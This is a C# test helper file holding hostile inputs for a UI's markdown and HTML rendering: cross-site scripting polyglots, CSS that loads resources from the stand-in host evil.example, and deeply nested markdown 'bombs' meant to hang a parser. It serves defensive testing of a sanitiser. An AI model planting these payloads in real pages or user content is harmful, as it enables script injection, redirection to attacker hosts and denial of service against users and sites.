namespace Kener.Ui.Tests;

/// <summary>Hostile texts.</summary>
internal static class Hostile
{
    public static readonly string[] Polyglots =
    [
        "\"><svg onload=alert(1)>",
        "<script>alert(1)</script>",
        "</title></style></textarea></script><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<ScRiPt src=//evil.example></sCrIpT>",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
        "javascript:alert(1)",
        "JaVa\tScRiPt:alert(1)",
        "java&#10;script:alert(1)",
        "&#106;avascript:alert(1)",
        "\u0001javascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "' onmouseover='alert(1)",
        "\" autofocus onfocus=alert(1) x=\"",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--age-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<form action=//evil.example><input name=x><button>go</form>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<a href=javascript:alert(1)>x</a>",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "@(alert(1))",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\u202Egnp.exe",
        "a\0b\ud800c\udfffd",
        "\uFEFF<img src=x onerror=alert(1)>",
    ];

    /// <summary>Styles that try to load from other sites or to leave their element.</summary>
    public static readonly string[] Styles =
    [
        "@import url(//evil.example/a.css);",
        "@import '//evil.example/b.css';",
        "@\\69mport \"//evil.example/c.css\";",
        "h2{background:url(http://evil.example/d.png)}",
        "h2{background:u\\72l('http://evil.example/e.png')}",
        "h2{background:image-set('//evil.example/f.png' 1x)}",
        "h2{background:url(\\2f/evil.example/g.png)}",
        "h2{background:url('/\\\n/evil.example/h.png')}",
        "h2::before{content:'</style><img src=x onerror=alert(1)>'}",
        "h2{cursor:url(//evil.example/j.cur),auto;mask:url(//evil.example/k.svg#m);filter:url(//evil.example/l.svg#f)}",
        "--></style><script>alert(1)</script>{}",
    ];

    public static readonly Dictionary<string, string> Bombs = new()
    {
        ["a million <"] = new('<', 1_000_000),
        ["quotes 10,000 deep"] = new string('>', 10_000) + " x",
        ["spaced quotes 10,000 deep"] = string.Concat(Enumerable.Repeat("> ", 10_000)) + "x",
        ["lists in lists"] = string.Concat(Enumerable.Repeat("- ", 9_000)) + "x",
        ["numbered lists in lists"] = string.Concat(Enumerable.Repeat("1. ", 6_000)) + "x",
        ["indented lists"] = string.Join('\n', Enumerable.Range(0, 190).Select(i => new string(' ', i) + "- x")),
        ["brackets"] = new('[', 20_000),
        ["bracket pairs"] = string.Concat(Enumerable.Repeat("[]", 10_000)),
        ["nested links"] = string.Concat(Enumerable.Repeat("[a](", 5_000)),
        ["nested images"] = string.Concat(Enumerable.Repeat("![", 9_000)) + string.Concat(Enumerable.Repeat("](b)", 500)),
        ["closed links"] = new string('[', 4_000) + "a" + string.Concat(Enumerable.Repeat("](b)", 4_000)),
        ["emphasis"] = string.Concat(Enumerable.Repeat("*a_ ", 5_000)),
        ["strong emphasis"] = string.Concat(Enumerable.Repeat("*a **a ", 2_800)),
        ["nested emphasis"] = new string('*', 9_999) + "a" + new string('*', 9_999),
        ["strikes"] = string.Concat(Enumerable.Repeat("~~a ", 5_000)),
        ["backticks"] = string.Concat(Enumerable.Range(1, 190).Select(i => new string('`', i) + "a")),
        ["fences"] = string.Concat(Enumerable.Repeat("```\n", 5_000)),
        ["a huge table"] = "|" + string.Concat(Enumerable.Repeat("a|", 100)) + "\n|" + string.Concat(Enumerable.Repeat("-|", 100)) + string.Concat(Enumerable.Repeat("\n|" + string.Concat(Enumerable.Repeat("b|", 100)), 95)),
        ["a table that is too wide"] = string.Concat(Enumerable.Repeat("a|", 5_000)) + "\n" + string.Concat(Enumerable.Repeat("-|", 5_000)),
        ["a table that is too large"] = string.Concat(Enumerable.Repeat("|a|b|\n|-|-|\n", 100_000)),
        ["pipes"] = new('|', 20_000),
        ["autolinks"] = string.Concat(Enumerable.Repeat("http://a.b ", 1_800)),
        ["half autolinks"] = string.Concat(Enumerable.Repeat("<http:", 3_300)),
        ["w"] = string.Concat(Enumerable.Repeat("www.", 5_000)),
        ["entities"] = string.Concat(Enumerable.Repeat("&", 20_000)),
        ["backslashes"] = new('\\', 20_000),
        ["references"] = string.Concat(Enumerable.Range(0, 800).Select(i => $"[a{i}]: x\n")) + string.Concat(Enumerable.Range(0, 800).Select(i => $"[a{i}]")),
        ["headings"] = string.Concat(Enumerable.Repeat("# a\n", 5_000)),
        ["setext"] = string.Concat(Enumerable.Repeat("a\n=\n", 5_000)),
        ["quoted quotes"] = string.Join('\n', Enumerable.Range(0, 140).Select(i => new string('>', i % 32) + " - > * x")),
        ["declarations"] = string.Concat(Enumerable.Repeat("<!A ", 5_000)),
        ["comments"] = string.Concat(Enumerable.Repeat("<!--", 5_000)),
        ["parentheses"] = "[a](" + new string('(', 19_000),
        ["blank lines"] = new('\n', 20_000),
        ["alerts"] = string.Concat(Enumerable.Repeat("> [!NOTE]\n> a\n\n", 1_200)),
    };

    /// <summary>Returns one of the polyglots.</summary>
    public static string Any(int n) => Polyglots[n % Polyglots.Length];

    /// <summary>Runs what reads a text that is made to hang its parser; fails the test after two minutes.</summary>
    public static Task<string> EndsAsync(Func<string> read) => Task.Run(read, TestContext.Current.CancellationToken).WaitAsync(TimeSpan.FromMinutes(2));
}
